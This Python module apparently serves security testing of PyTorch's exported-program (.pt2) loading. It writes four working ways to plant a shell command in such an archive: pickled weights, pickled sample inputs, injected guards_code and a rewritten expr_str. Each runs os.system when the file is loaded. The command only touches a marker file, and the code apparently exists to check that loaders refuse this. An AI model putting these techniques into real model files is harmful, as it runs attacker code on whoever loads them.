"""Exported programs that run a command when they are loaded: four ways to hide one in a `.pt2` file.

Each takes the bytes of an honest file, and returns those of one that creates the file `mark` by a command of the shell.
"""

import io
import json
import os
import pickle
import re
import zipfile


class _Command:
    def __init__(self, mark):
        self.line = f"touch {mark}"

    def __reduce__(self):
        return os.system, (self.line,)


def weights(data, mark):
    """A weight that is said to be pickled, and is."""

    def pickled(config):
        parsed = json.loads(config)
        next(iter(parsed["config"].values()))["use_pickle"] = True
        return json.dumps(parsed).encode()

    command = {r"data/weights/weight_0$": lambda _: pickle.dumps(_Command(mark))}
    return _rewritten(data, {r"weights_config\.json$": pickled} | command)


def sample_inputs(data, mark):
    """The stored examples: what isn't plain tensors is unpickled all the same."""
    return _rewritten(data, {r"data/sample_inputs/model\.pt$": lambda _: pickle.dumps(_Command(mark))})


def guards(data, mark):
    """A condition on the inputs: the text is compiled, and run with each batch."""

    def added(program):
        parsed = json.loads(program)
        parsed["guards_code"] = [f"__import__('os').system('touch {mark}') == 0"]
        return json.dumps(parsed).encode()

    return _rewritten(data, {r"models/model\.json$": added})


def symbols(data, mark):
    """The number of rows, as an expression: the text is evaluated."""
    text = f"__import__('os').system('touch {mark}')"

    def replaced(program):
        return re.sub(rb'"expr_str": *"[^"]*"', f'"expr_str": "{text}"'.encode(), program)

    return _rewritten(data, {r"models/model\.json$": replaced})


def _rewritten(data, changes):
    """Return the archive `data` with the content of each path that a pattern of `changes` finds put through it."""
    rewritten, done = io.BytesIO(), 0
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(rewritten, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            for pattern, change in changes.items():
                if re.search(pattern, name):
                    content, done = change(content), done + 1
            new.writestr(name, content)
    assert done == len(changes), f"this torch lays an archive out in another way: {old.namelist()}"
    return rewritten.getvalue()
